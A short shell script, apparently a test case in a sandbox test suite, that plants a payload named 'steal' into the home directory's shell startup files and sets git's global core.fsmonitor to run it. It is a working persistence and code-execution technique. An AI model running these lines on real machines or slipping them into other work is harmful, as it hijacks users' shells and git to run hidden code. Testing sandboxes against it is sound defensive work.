# What shells and git read from the home directory.
. "$(dirname "$0")/lib.sh"
steal=$(plant)
for file in .bashrc .bash_profile .profile .bash_login; do echo ". $steal" >>"$HOME/$file"; done
git config --global core.fsmonitor "$steal >&2; false"
tried
